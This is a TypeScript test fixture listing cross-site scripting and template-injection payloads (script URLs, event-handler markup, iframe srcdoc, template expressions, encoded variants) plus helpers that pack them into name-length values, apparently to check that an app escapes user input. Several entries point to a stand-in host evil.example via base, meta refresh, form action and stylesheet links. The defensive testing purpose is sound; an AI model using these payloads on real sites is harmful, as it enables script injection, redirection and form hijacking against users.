import { limits } from '@plinth/contract/patterns'

/** Injection attempts: markup, event handlers, script URLs, templates, and quotes that end a string or attribute. */
export const payloads = [
  'javascript:__pwned=1',
  'jAvAsCrIpT:__pwned=1//',
  'data:text/html,<script>__pwned=1</script>',
  '<script>window.__pwned=1</script>',
  '</script><script>__pwned=1</script>',
  '<img src=x onerror=__pwned=1>',
  '<svg onload=__pwned=1>',
  '<svg><script>__pwned=1</script></svg>',
  '"><img src=x onerror=__pwned=1>',
  "'><img src=x onerror=__pwned=1>",
  '" onmouseover="__pwned=1" autofocus onfocus="__pwned=1',
  "' onfocus='__pwned=1' autofocus='",
  '<a href="javascript:__pwned=1">x</a>',
  '<iframe src="javascript:__pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
  '<body onload=__pwned=1>',
  '<details open ontoggle=__pwned=1>',
  '<video><source onerror=__pwned=1></video>',
  '<math><mtext></mtext><script>__pwned=1</script></math>',
  '<template><script>__pwned=1</script></template>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=x>',
  '<object data=//evil.example/x.swf>',
  '<embed src=//evil.example/x.swf>',
  '<input autofocus onfocus=__pwned=1>',
  '<marquee onstart=__pwned=1>',
  '<isindex action=javascript:__pwned=1>',
  '{{constructor.constructor("__pwned=1")()}}',
  '$' + '{__pwned=1}',
  '#{__pwned=1}',
  '<%= __pwned=1 %>',
  '{{t}} {{name}} $& $1',
  '\\"-__pwned=1-\\"',
  '`;__pwned=1;`',
  '%3Cscript%3E__pwned=1%3C/script%3E',
  '&lt;img src=x onerror=__pwned=1&gt;',
  '<x onclick=__pwned=1 tabindex=0 id=x>#x',
]

/** The first payloads are script URLs, which only run at the beginning of a value. */
const runnableUrls = 3

/** All payloads packed into as few names as possible, so that each name is shown on more pages. */
export const payloadNames = packIntoNames(limits.name)

/** All payloads in one text of several lines. */
export const allPayloads = payloads.join('\n')

/** All payloads without spaces, in one value. */
export const payloadsWithoutSpaces = payloads.filter(payload => !/\s/.test(payload)).join('')

function packIntoNames(max: number): string[] {
  const values = payloads.slice(0, runnableUrls)
  const rest = payloads.slice(runnableUrls).sort((a, b) => b.length - a.length)
  for (const payload of rest) {
    const room = values.findIndex(value => `${value} ${payload}`.length <= max)
    if (room < 0) values.push(payload)
    else values[room] += ` ${payload}`
  }
  return values
}

/** The name at this index, modulo their number. */
export const payloadName = (n: number): string => payloadNames[n % payloadNames.length] ?? ''
